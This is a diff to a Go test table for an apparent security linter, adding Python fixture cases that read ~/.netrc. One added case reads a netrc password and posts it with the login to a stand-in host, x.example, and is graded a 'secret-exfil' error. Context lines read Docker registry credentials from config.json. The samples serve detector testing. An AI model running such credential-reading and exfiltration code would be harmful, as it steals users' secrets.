@@ -182,6 +182,9 @@ var codeCases = []lintCase{
 	{"r.sh", "sensitive-path", "t=$(jq -r '.auths[\"ghcr.io\"].auth' \"$HOME/.docker/config.json\")\necho \"{\\\"name\\\": \\\"$t\\\"}\" | jq -r .name\n", "warning", 1},
 	// in a language whose blocks and closures the analysis does not follow, a read of a store stays a warning
 	{"r.rb", "sensitive-path", "require 'json'\ncfg = JSON.parse(File.read(File.join(Dir.home, '.docker', 'config.json')))\ncfg['auths'].keys.each { |r| puts r }\n", "warning", 2},
+	// Python's netrc module reads ~/.netrc: its hosts are structure, an authenticator's password is not
+	{"r.py", "sensitive-path", "import netrc\nn = netrc.netrc()\nfor host in sorted(n.hosts):\n    login, _, _ = n.authenticators(host)\n    print(host, login)\n", "note", 2},
+	{"r.py", "secret-exfil", "import netrc, requests\nlogin, _, password = netrc.netrc().authenticators(\"api.example.com\")\nrequests.post(\"https://x.example/u\", data={\"u\": login, \"p\": password})\n", "error", 3},
 	// a local function given the secret is read again with it bound: what it does with it is the grade
 	{"r.py", "sensitive-path", "import json\nfrom pathlib import Path\n\ndef report(cfg):\n    for r in sorted(cfg.get(\"auths\", {})):\n        print(r)\n\ndef main():\n    report(json.loads((Path.home() / \".docker\" / \"config.json\").read_text()))\n\nmain()\n", "note", 9},
 	{"r.py", "sensitive-path", "import json\nfrom pathlib import Path\n\ndef report(cfg):\n    for r in sorted(cfg.get(\"auths\", {})):\n        print(r, cfg[\"auths\"][r])\n\ndef main():\n    report(json.loads((Path.home() / \".docker\" / \"config.json\").read_text()))\n\nmain()\n", "warning", 9},
